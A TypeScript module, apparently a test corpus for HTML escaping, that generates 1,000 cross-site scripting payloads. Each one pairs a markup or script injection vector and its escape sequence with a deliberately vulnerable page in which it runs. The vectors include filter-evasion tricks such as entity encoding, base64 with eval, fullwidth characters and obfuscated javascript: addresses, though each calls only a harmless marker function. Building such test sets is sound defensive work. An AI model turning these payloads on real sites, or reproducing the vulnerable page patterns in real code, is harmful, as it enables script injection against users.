/** A text that tries to run as code, and a vulnerable page in which it does: the proof that the payload works. */
export type Payload = {
  /** The number that the payload reports when it runs. */
  readonly id: number;
  readonly text: string;
  /** A description for messages. */
  readonly name: string;
  /** The indexes of its attack and of its place in their tables. */
  readonly kind: number;
  readonly place: number;
  /** The document of a vulnerable page that contains the text unescaped. */
  readonly careless: string;
};

/** A place where a vulnerable page writes a text, and the characters with which the text escapes from it. */
type Place = {
  readonly name: string;
  readonly wrap: (attack: string) => string;
  readonly page: (text: string) => string;
};

/** Markup that runs `code` without user interaction; `code` contains no quotes and no spaces. */
const markup: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT >`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script src=data:text/javascript,${code}></script>`,
  (code) => `<script async src="data:text/javascript,${code}"></script>`,
  (code) => `<script>import("data:text/javascript,${code}")</script>`,
  (code) => `<img src=/sentinel onerror=${code}>`,
  (code) => `<img src="/sentinel" onerror="${code}">`,
  (code) => `<IMG SRC='/sentinel' ONERROR='${code}'>`,
  (code) => `<img/src=/sentinel/onerror/onerror=${code}>`.replace('/sentinel/onerror/', '"/sentinel"/'),
  (code) => `<img\tsrc=/sentinel\tonerror=${code}>`,
  (code) => `<img\nsrc=/sentinel\nonerror\n=\n${code}>`,
  (code) => `<img\fsrc=/sentinel\fonerror=${code}\f>`,
  (code) => `<img src=/sentinel onerror=${code}// `,
  (code) => `<img src=/sentinel onerror="&#x65;val(&quot;${code}&quot;)">`,
  (code) => `<img src=/sentinel onerror=${[...code].map((letter) => `&#${letter.charCodeAt(0)};`).join('')}>`,
  (code) => `<img src=/sentinel onerror=eval(atob('${btoa(code)}'))>`,
  (code) => `<img srcset=/sentinel onerror=${code}>`,
  (code) => `<input type=image src=/sentinel onerror=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg/onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href=data:text/javascript,${code} /></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  (code) => `<svg><set onbegin=${code} attributeName=x to=1></svg>`,
  (code) => `<svg><image href=/sentinel onerror=${code}></svg>`,
  (code) => `<svg><style><img src=/sentinel onerror=${code}></style></svg>`,
  (code) => `<math><mtext><img src=/sentinel onerror=${code}></mtext></math>`,
  (code) => `<details open ontoggle=${code}>x</details>`,
  (code) => `<video src=/sentinel onerror=${code}></video>`,
  (code) => `<audio src=/sentinel onerror=${code}></audio>`,
  (code) => `<video><source src=/sentinel onerror=${code}></video>`,
  (code) => `<link rel=stylesheet href=/sentinel onerror=${code}>`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<style>@keyframes k{to{opacity:0}}</style><b style="animation:k 1s" onanimationstart=${code}>x</b>`,
  (code) => `<iframe onload=${code}></iframe>`,
  (code) => `<iframe src=javascript:parent.${code}></iframe>`,
  (code) => `<iframe srcdoc="&lt;script>parent.${code}&lt;/script>"></iframe>`,
  (code) => `<object data=/sentinel onerror=${code}></object>`,
  (code) => `<noscript><p title="</noscript><img src=/sentinel onerror=${code}>"></noscript>`,
];

const between = (before: string, after: string) => (text: string) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>${before}${text}${after}</body></html>`;

/** Places for markup: in text, inside other markup, or decoded twice. */
const markupPlaces: readonly Place[] = [
  { name: 'text', wrap: (attack) => attack, page: between('<p>', '</p>') },
  { name: 'attribute in double quotes', wrap: (attack) => `">${attack}`, page: between('<input value="', '">') },
  { name: 'attribute in single quotes', wrap: (attack) => `'>${attack}`, page: between("<input value='", "'>") },
  { name: 'bare attribute', wrap: (attack) => `x>${attack}`, page: between('<input value=', '>') },
  { name: 'address', wrap: (attack) => `#">${attack}`, page: between('<a href="', '">x</a>') },
  { name: 'text area', wrap: (attack) => `</textarea>${attack}`, page: between('<textarea>', '</textarea>') },
  { name: 'title', wrap: (attack) => `</title>${attack}`, page: between('<title>', '</title>') },
  { name: 'choice', wrap: (attack) => `</option></select>${attack}`, page: between('<select><option>', '</select>') },
  { name: 'comment', wrap: (attack) => `-->${attack}`, page: between('<!-- ', ' -->') },
  { name: 'style', wrap: (attack) => `</style>${attack}`, page: between('<style>a{color:', '}</style>') },
  { name: 'text of a script', wrap: (attack) => `</script>${attack}`, page: between('<script>let a="', '"</script>') },
  {
    name: 'data block',
    wrap: (attack) => `"}</script>${attack}`,
    page: between('<script type="application/json">{"a":"', '"}</script>'),
  },
  { name: 'frame', wrap: (attack) => `</iframe>${attack}`, page: between('<iframe>', '</iframe>') },
  { name: 'template', wrap: (attack) => `</template>${attack}`, page: between('<template>', '</template>') },
  { name: 'drawing', wrap: (attack) => `</desc></svg>${attack}`, page: between('<svg><desc>', '</desc></svg>') },
  { name: 'table', wrap: (attack) => `</td></tr></table>${attack}`, page: between('<table><tr><td>', '</table>') },
  {
    name: 'text with its entities decoded',
    wrap: (attack) => attack.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    page: (text) => between('', '')(text.replaceAll('&gt;', '>').replaceAll('&lt;', '<').replaceAll('&amp;', '&')),
  },
  {
    name: 'text with its percent signs decoded',
    wrap: encodeURIComponent,
    page: (text) => between('<p>', '</p>')(decodeURIComponent(text)),
  },
  {
    name: 'text with its escapes read',
    wrap: (attack) => JSON.stringify(attack).slice(1, -1).replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    page: (text) => between('<p>', '</p>')(JSON.parse(`"${text}"`)),
  },
  {
    name: 'text with its wide letters made plain',
    wrap: (attack) => attack.replaceAll('<', '＜').replaceAll('>', '＞').replaceAll('=', '＝').replaceAll('"', '＂'),
    page: (text) => between('<p>', '</p>')(text.normalize('NFKC')),
  },
];

/** Expressions that call `ran` with an id; none contains a quote or a space. */
const calls: readonly ((id: number) => string)[] = [
  (id) => `ran(${id})`,
  (id) => `self.ran(${id})`,
  (id) => `alert(${id})`,
  (id) => `[${id}].forEach(ran)`,
  (id) => `ran.call(0,${id})`,
  (id) => `Reflect.apply(ran,0,[${id}])`,
  (id) => `setTimeout(ran,0,${id})`,
  (id) => `Promise.resolve(${id}).then(ran)`,
  (id) => `(0,eval)(String.fromCharCode(${codesOf(`ran(${id})`)}))`,
  (id) => `new/**/Function(String.fromCharCode(${codesOf(`ran(${id})`)}))()`,
];

function codesOf(text: string): string {
  return [...text].map((letter) => letter.charCodeAt(0)).join(',');
}

const script = (before: string, after: string) => between(`<script>${before}`, `${after}</script>`);

/** Places for code: in a script, in an event handler attribute, or in an address. */
const codePlaces: readonly Place[] = [
  { name: 'double quotes', wrap: (code) => `";${code};"`, page: script('let a="', '"') },
  { name: 'single quotes', wrap: (code) => `';${code};'`, page: script("let a='", "'") },
  { name: 'an expression in quotes', wrap: (code) => `"-${code}-"`, page: script('let a="', '"') },
  { name: 'a template', wrap: (code) => `\${${code}}`, page: script('let a=`', '`') },
  { name: 'a number', wrap: (code) => `0;${code}`, page: script('let a=', ';') },
  { name: 'a comment', wrap: (code) => `*/${code}/*`, page: script('/* ', ' */') },
  { name: 'a pattern', wrap: (code) => `x/;${code};/x`, page: script('let a=/', '/') },
  { name: 'an argument', wrap: (code) => `"),${code},("`, page: script('String("', '")') },
  { name: 'a callback', wrap: (code) => `${code};`, page: script('', '({})') },
  { name: 'an object', wrap: (code) => `{"__proto__":${code}}`, page: script('let a=', '') },
  { name: 'a timer', wrap: (code) => code, page: (text) => script('setTimeout(', ')')(JSON.stringify(text)) },
  {
    name: 'braces of a template language',
    wrap: (code) => `{{${code}}}`,
    page: (text) => script('Function(', '.slice(2,-2))()')(JSON.stringify(text)),
  },
  {
    name: 'the code of an event',
    wrap: (code) => `');${code};('`,
    page: between(`<img src=/sentinel onerror="String('`, `')">`),
  },
  {
    name: 'the code of an event, by entities',
    wrap: (code) => `&#39;);${code};(&#39;`,
    page: between(`<img src=/sentinel onerror="String('`, `')">`),
  },
  {
    name: 'the address of a frame',
    wrap: (code) => `javascript:${asFrame(code)}`,
    page: between('<iframe src="', '">'),
  },
  {
    name: 'the address of a frame, in odd letters',
    wrap: (code) => `\u0001 jAvA\tScRiPt\n:${asFrame(code)}`,
    page: between('<iframe src="', '">'),
  },
  {
    name: 'the address of a frame, by entities',
    wrap: (code) => `javascript&colon;${asFrame(code)}`,
    page: between('<iframe src="', '">'),
  },
  {
    name: 'the address of a link',
    wrap: (code) => `javascript:/*x*/${code};void(0)`,
    page: between('<a href="', '">x</a><script>document.links[0].click()</script>'),
  },
  {
    name: 'where a page goes next',
    wrap: (code) => `javascript:void(${code})`,
    page: (text) => script('location.href=', '')(JSON.stringify(text)),
  },
  {
    name: 'where a form goes',
    wrap: (code) => `javascript:${code};void(0)`,
    page: between('<form action="', '"></form><script>document.forms[0].submit()</script>'),
  },
];

/** Gives the script of a frame the functions of the page around it. */
function asFrame(code: string): string {
  return `parent.eval(String.fromCharCode(${codesOf(code)}))`;
}

function table(): Payload[] {
  const built = [
    ...markupPlaces.flatMap((place, placeAt) =>
      markup.map((attack, kind) => ({ place, placeAt, kind, attack: (id: number) => attack(`ran(${id})`) })),
    ),
    ...codePlaces.flatMap((place, placeAt) => calls.map((attack, kind) => ({ place, placeAt, kind, attack }))),
  ];
  return built.map(({ place, placeAt, kind, attack }, index) => {
    const id = index + 1;
    const text = place.wrap(attack(id));
    const name = `${id}: ${attack(id)} in ${place.name}`;
    return { id, text, name, kind, place: placeAt, careless: place.page(text) };
  });
}

/** 1,000 payloads, the same in each run: 40 kinds of markup in 20 places, and 10 calls in 20 places for code. */
export const payloads: readonly Payload[] = table();
